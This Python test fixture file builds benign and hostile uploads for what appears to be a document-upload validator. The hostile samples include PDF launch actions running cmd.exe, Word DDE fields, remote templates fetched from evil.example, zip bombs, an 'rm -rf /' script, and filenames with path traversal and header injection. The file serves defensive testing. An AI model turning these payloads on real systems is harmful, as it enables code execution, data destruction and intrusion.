"""Files that an upload must refuse, and honest ones that it must accept."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from app.documents.rules.packed_files import TEST_VIRUS

WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORD = b"application/vnd.ms-word.document.macroEnabled.main+xml"
W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MANIFEST = b"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def pdf(catalogue: bytes = b"", *objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of one empty page, with more in its catalogue and more objects (from number 4) where a test wants them."""
    first = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    )
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate((*first, *objects), start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)


PDF = pdf()


@dataclass(frozen=True)
class Sent:
    """A file as it comes from a browser."""

    name: str
    content: bytes


def packed(entries: dict[str, bytes], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as into:
        for name, content in entries.items():
            into.writestr(name, content)
    return out.getvalue()


def types(main: bytes) -> bytes:
    return (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/main.xml" ContentType="' + main + b'"/></Types>'
    )


def docx(**more: bytes) -> bytes:
    return packed(
        {
            "[Content_Types].xml": types(WORD),
            "word/document.xml": b'<w:document xmlns:w="' + W + b'"/>',
            **more,
        }
    )


def related(kind: bytes, target: bytes, mode: bytes = b' TargetMode="External"') -> bytes:
    """The list of a part's relationships, with one in it."""
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
        b' Type="' + R + b"/" + kind + b'" Target="' + target + b'"' + mode + b"/></Relationships>"
    )


def letter(body: bytes) -> bytes:
    """A Word file whose one paragraph holds this."""
    whole = b'<w:document xmlns:w="' + W + b'"><w:body><w:p>' + body + b"</w:p></w:body></w:document>"
    return docx(**{"word/document.xml": whole})


def field(*pieces: bytes) -> bytes:
    """A Word field whose instruction is cut into these pieces, each a run of its own."""
    runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces)
    return (
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def text_document(body: bytes) -> bytes:
    """An OpenDocument text with this in its content."""
    names = b" ".join(
        b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (short, long)
        for short, long in (
            (b"office", b"office"),
            (b"script", b"script"),
            (b"draw", b"drawing"),
            (b"text", b"text"),
        )
    )
    return odt(
        **{
            "content.xml": b"<office:document-content " + names + b' xmlns:xlink="http://www.w3.org/1999/xlink">'
            + body + b"</office:document-content>"
        }
    )  # fmt: skip


def xlsx(**more: bytes) -> bytes:
    return packed({"[Content_Types].xml": types(SHEET), "xl/workbook.xml": b"<workbook/>", **more})


def odt(**more: bytes) -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return packed(
        {"mimetype": kind, "META-INF/manifest.xml": b"<manifest/>", "content.xml": b"<office/>", **more}
    )


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0\0\0"))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int = 2, height: int = 2) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + b"\0" * 9
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + frame + b"\xff\xda\x00\x02\xff\xd9"


def encrypted(whole: bytes) -> bytes:
    """The same zip with every entry marked as encrypted."""
    marked = bytearray(whole)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + place] |= 1
            at = marked.find(mark, at + 4)
    return bytes(marked)


def lying(whole: bytes, claimed: int = 10) -> bytes:
    """A zip whose list says that its largest entry is small."""
    changed = bytearray(whole)
    with zipfile.ZipFile(io.BytesIO(whole)) as opened:
        big = max(opened.infolist(), key=lambda one: one.file_size).filename.encode()
    at = changed.rfind(big) - 46
    changed[at + 24 : at + 28] = struct.pack("<I", claimed)
    return bytes(changed)


BOMB = b"\0" * (8 * 1024 * 1024)
HTML = b"<html><script>alert(1)</script></html>"

HONEST = [
    Sent("report.pdf", PDF),
    Sent("REPORT.PDF", PDF),
    Sent("advice.docx", docx()),
    Sent("advice.docx", docx(**{"word/embeddings/sheet1.xlsx": xlsx()})),
    Sent("map.xlsx", xlsx()),
    Sent("letter.odt", odt()),
    Sent("drawing.png", png()),
    Sent("photo.jpg", jpeg()),
    Sent("photo.jpeg", jpeg()),
    Sent("notes.txt", b"Amina likes maps.\r\n"),
    Sent("notes.txt", "Zażółć gęślą jaźń, اردو".encode()),
    Sent("notes.txt", "It’s fine".encode("cp1252")),
    Sent("notes.txt", "It’s fine, Zażółć".encode("utf-16")),
    Sent("notes.text", b"Amina likes maps."),
    Sent("photo.jpe", jpeg()),
    Sent("photo.JFIF", jpeg()),
    Sent("photo.jpg", png()),
    Sent("photo.png", jpeg()),
    Sent("from the scanner.pdf", b"\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n" + PDF),
    Sent("from a mail.pdf", b"\r\n\r\n" + PDF),
    Sent(
        "link.docx",
        docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"https://www.nhs.uk/x?a=b")}),
    ),
    Sent(
        "write to.docx",
        docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"mailto:a@school.example")}),
    ),
    Sent(
        "template.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": related(
                    b"attachedTemplate", b"file:///C:\\Users\\ann\\Normal.dotm"
                )
            }
        ),
    ),
    Sent("fields.docx", letter(field(b" PAGEREF _Toc1 \\h ") + field(b' HYPERLINK "https://a.example" '))),
    Sent(
        "picture.docx", docx(**{"word/_rels/document.xml.rels": related(b"image", b"media/image1.png", b"")})
    ),
    Sent("link.odt", text_document(b'<text:a xlink:href="https://a.example">a</text:a>')),
    Sent(
        "picture.odt",
        text_document(b'<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'),
    ),
]
"""Files as people really have them."""

HOSTILE = {
    "empty": Sent("report.pdf", b""),
    "test virus": Sent("notes.txt", TEST_VIRUS),
    "test virus named as PDF": Sent("report.pdf", TEST_VIRUS),
    "test virus behind a PDF's head": Sent("report.pdf", b"%PDF-1.7\n" + TEST_VIRUS + b"\n%%EOF"),
    "test virus in Word": Sent("a.docx", docx(**{"word/media/image1.png": TEST_VIRUS})),
    "test virus in a zip in Word": Sent("a.docx", docx(**{"word/e.zip": packed({"e.com": TEST_VIRUS})})),
    "a zip in a zip in Word": Sent("a.docx", docx(**{"a.zip": packed({"b.zip": packed({"c": b"c"})})})),
    "a program in Word": Sent("a.docx", docx(**{"word/a.bin": b"MZ\x90\0" + b"\0" * 60})),
    "a program in a spreadsheet": Sent("a.xlsx", xlsx(**{"xl/a.bin": b"\x7fELF" + b"\0" * 60})),
    "zip bomb in Word": Sent("a.docx", docx(**{"word/media/a.bmp": BOMB})),
    "zip bomb in a spreadsheet": Sent("a.xlsx", xlsx(**{"xl/a": BOMB})),
    "zip bomb in a letter": Sent("a.odt", odt(**{"Pictures/a": BOMB})),
    "zip bomb that lies": Sent("a.docx", lying(docx(**{"word/media/a.bmp": BOMB}))),
    "zip bomb in a zip": Sent("a.docx", docx(**{"a.zip": packed({"b": BOMB})})),
    "too many entries": Sent("a.docx", docx(**{f"word/{n}": b"" for n in range(2_100)})),
    "encrypted Word": Sent("a.docx", encrypted(docx())),
    "encrypted letter": Sent(
        "a.odt",
        odt(
            **{
                "META-INF/manifest.xml": b'<manifest xmlns:m="'
                + MANIFEST
                + b'"><m:encryption-data/></manifest>'
            }
        ),
    ),
    "old Word named as new": Sent("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "macros": Sent("a.docx", docx(**{"word/vbaProject.bin": b"macro"})),
    "macros in another place": Sent("a.docx", docx(**{"x/VbaProject.bin": b"macro"})),
    "macros in a spreadsheet": Sent("a.xlsx", xlsx(**{"xl/vbaProject.bin": b"macro"})),
    "old macros in a spreadsheet": Sent("a.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": b"macro"})),
    "macros in a letter": Sent("a.odt", odt(**{"Basic/Standard/Module1.xml": b"macro"})),
    "docm named as docx": Sent("a.docx", packed({"[Content_Types].xml": types(MACRO_WORD), "w.xml": b""})),
    "docm": Sent("a.docm", packed({"[Content_Types].xml": types(MACRO_WORD)})),
    "docx named as xlsx": Sent("a.xlsx", docx()),
    "a zip named as docx": Sent("a.docx", packed({"a.txt": b"a"})),
    "a zip": Sent("a.zip", packed({"a.txt": b"a"})),
    "a broken zip": Sent("a.docx", docx()[:-30]),
    "a zip with something in front": Sent("a.docx", HTML + docx()),
    "a doctype in the list of contents": Sent(
        "a.docx", packed({"[Content_Types].xml": b"<!DOCTYPE a>" + types(WORD)})
    ),
    "PDF with a page in front": Sent("a.pdf", HTML + PDF),
    "a page named as PDF": Sent("a.pdf", HTML),
    "a PDF without an end": Sent("a.pdf", b"%PDF-1.7\nhello"),
    "a page": Sent("a.html", HTML),
    "a page named as text": Sent("a.txt", HTML),
    "a page named as text, after spaces": Sent("a.txt", b"\xef\xbb\xbf \n" + HTML),
    "svg": Sent("a.svg", b"<svg onload='alert(1)'/>"),
    "svg named as PNG": Sent("a.png", b"<svg onload='alert(1)'/>"),
    "a script named as text": Sent("a.txt", b"#!/bin/sh\nrm -rf /"),
    "a program named as text": Sent("a.txt", b"MZ\x90\0\x03"),
    "bytes named as text": Sent("a.txt", b"abc\0def"),
    "a program named as JPEG": Sent("a.jpg", b"MZ\x90\0\x03"),
    "a page named as JPEG": Sent("a.jpg", HTML),
    "a huge PNG": Sent("a.png", png(60_000, 60_000)),
    "a huge JPEG": Sent("a.jpg", jpeg(60_000, 60_000)),
    "a PNG of nothing": Sent("a.png", png(0, 4)),
    "a cut PNG": Sent("a.png", png()[:20]),
    "a cut JPEG": Sent("a.jpg", jpeg()[:12]),
    "two endings": Sent("report.pdf.exe", PDF),
    "two endings, a program": Sent("report.pdf.exe", b"MZ\x90\0"),
    "no ending": Sent("report", PDF),
    "an ending only": Sent(".pdf", HTML),
    "turned round": Sent("annexe\u202efdp.exe", PDF),
    "cut by a NUL": Sent("a.exe\0.pdf", PDF),
    "a program": Sent("a.exe", b"MZ\x90\0"),
    "a script": Sent("a.js", b"alert(1)"),
    "a shortcut": Sent("a.lnk", b"L\0\0\0"),
    "rich text named as text": Sent("a.txt", b"{\\rtf1 hello}"),
    "GIF named as PNG": Sent("a.png", b"GIF89a\x01\x00\x01\x00"),
}

PDF_PARTS = {
    "launch": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "launch from a page": pdf(b"", b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>"),
    "launch, spelt otherwise": pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "script by name": pdf(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"),
    "page on another computer": pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>"),
    "program attached": pdf(b"", b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
                            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
    "film": pdf(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
}  # fmt: skip
"""PDFs that start something when they are opened."""

ANOTHER_PLACE = b"https://evil.example/t.dotm"
A11 = {
    "remote template": docx(**{"word/_rels/settings.xml.rels": related(b"attachedTemplate", ANOTHER_PLACE)}),
    "template on a share": docx(**{"word/_rels/settings.xml.rels": related(b"attachedTemplate", b"\\\\evil\\t.dotm")}),
    "template on a share, as a file": docx(
        **{"word/_rels/settings.xml.rels": related(b"attachedTemplate", b"file://evil/t.dotm")}
    ),
    "remote template, other letters": docx(
        **{"word/_rels/settings.xml.rels": related(b"attachedTemplate", ANOTHER_PLACE, b' TargetMode=" external "')}
    ),
    "remote picture": docx(**{"word/_rels/document.xml.rels": related(b"image", b"https://evil.example/1.png")}),
    "remote frame": docx(**{"word/_rels/webSettings.xml.rels": related(b"frame", b"https://evil.example/")}),
    "link that runs": docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"file://evil/x.lnk")}),
    "OLE object by relationship": docx(
        **{"word/_rels/document.xml.rels": related(b"oleObject", b"embeddings/a.bin", b"")}
    ),
    "OLE object by its bytes": docx(**{"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
    "OLE object by content type": docx(
        **{"[Content_Types].xml": types(WORD + b'"/><Override PartName="/a" ContentType="application/'
           b"vnd.openxmlformats-officedocument.oleObject")}
    ),
    "macros under another name": docx(**{"word/data.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
    "macros by relationship": docx(**{"word/_rels/document.xml.rels": related(b"vbaProject", b"x.bin", b"")}),
    "macros by content type": docx(
        **{"[Content_Types].xml": types(WORD + b'"/><Default Extension="bin" ContentType="application/'
           b"vnd.ms-office.vbaProject")}
    ),
    "macros in a spreadsheet in a letter": docx(**{"word/embeddings/s.xlsx": xlsx(**{"xl/vbaProject.bin": b"m"})}),
    "remote picture in a spreadsheet in a letter": docx(
        **{"word/embeddings/s.xlsx": xlsx(**{"xl/_rels/a.rels": related(b"image", b"https://evil.example/1")})}
    ),
    "DDE field": letter(field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "DDE field in pieces": letter(field(b" DD", b"E", b"AUTO", b" cmd x ")),
    "DDE field after another": letter(field(b" PAGE") + field(b"DDE cmd x")),
    "simple DDE field": letter(b'<w:fldSimple w:instr=" DDE cmd x "/>'),
    "DDE by numbers": letter(field(b" QUOTE 68 68 69 65 85 84 79 ")),
    "picture field from elsewhere": letter(field(b' INCLUDEPICTURE "http://evil.example/1.png" ')),
    "DDE in a header": docx(
        **{"word/header1.xml": b'<w:hdr xmlns:w="' + W + b'"><w:p>' + field(b"DDEAUTO a b") + b"</w:p></w:hdr>"}
    ),
    "DOCTYPE in a part": docx(**{"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "DOCTYPE in UTF-16": docx(**{"word/document.xml": "<!DOCTYPE a><a/>".encode("utf-16")}),
    "DOCTYPE in a part without an ending": docx(**{"word/other": b"<!DOCTYPE a><a/>"}),
    "shortcut inside": docx(**{"word/media/a.lnk": b"x"}),
    "shortcut inside by its bytes": docx(**{"word/media/a.png": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60}),
    "hta inside": docx(**{"word/media/a.hta": b"x"}),
    "page inside": docx(**{"word/afchunk.mht": b"x"}),
    "part that is no XML": docx(**{"word/document.xml": b"<a>"}),
}  # fmt: skip
A11_OPEN_DOCUMENT = {
    "macros by folder": odt(**{"x/Basic/Standard/a.xml": b"<a/>"}),
    "macros by backslash": odt(**{"x\\Basic\\a.xml": b"<a/>"}),
    "event listener": text_document(b'<script:event-listener script:event-name="dom:load"/>'),
    "DDE": text_document(b'<text:dde-connection-decl office:dde-application="cmd"/>'),
    "OLE": text_document(b'<draw:object-ole xlink:href="./ole"/>'),
    "remote picture": text_document(b'<draw:image xlink:href="http://evil.example/1.png"/>'),
    "picture on a share": text_document(b'<draw:image xlink:href="//evil/1.png"/>'),
    "section from elsewhere": text_document(b'<text:section-source xlink:href="../x.odt"/>'),
    "plugin": text_document(b"<draw:plugin/>"),
    "DOCTYPE": odt(**{"content.xml": b"<!DOCTYPE a><a/>"}),
}
A11_SPREADSHEET = {
    "link to another workbook": xlsx(
        **{"xl/_rels/workbook.xml.rels": related(b"externalLink", b"e.xml", b"")}
    ),
    "data from the web": xlsx(**{"xl/_rels/workbook.xml.rels": related(b"connections", b"c.xml", b"")}),
    "old macro sheet": xlsx(**{"xl/_rels/workbook.xml.rels": related(b"xlMacrosheet", b"m.xml", b"")}),
    "remote picture": xlsx(**{"xl/drawings/_rels/d.xml.rels": related(b"image", b"https://evil.example/1")}),
}
HOSTILE |= {f"A11 Word, {name}": Sent("a.docx", content) for name, content in A11.items()}
HOSTILE |= {f"A11 letter, {name}": Sent("a.odt", content) for name, content in A11_OPEN_DOCUMENT.items()}
HOSTILE |= {f"A11 spreadsheet, {name}": Sent("a.xlsx", content) for name, content in A11_SPREADSHEET.items()}

HOSTILE_NAMES = {
    "../../x.pdf": "x.pdf",
    "..\\..\\x.pdf": "x.pdf",
    "/etc/passwd.pdf": "passwd.pdf",
    "C:\\Users\\x.pdf": "x.pdf",
    "x.pdf\r\nSet-Cookie: a=b.pdf": "x.pdf Set-Cookie_ a=b.pdf",
    "re\u202eport.pdf": "report.pdf",
    "re\u200bport.pdf": "report.pdf",
    "اردو\u200cنام.pdf": "اردو\u200cنام.pdf",
    "a" * 300 + ".pdf": "a" * 116 + ".pdf",
    "  .report.pdf  ": "report.pdf",
    'a"b<c>d|e?f*g:h.pdf': "a_b_c_d_e_f_g_h.pdf",
    "\u0000": "file",
    "": "file",
    "...": "file",
    "Żółć — اردو.pdf": "Żółć — اردو.pdf",
}
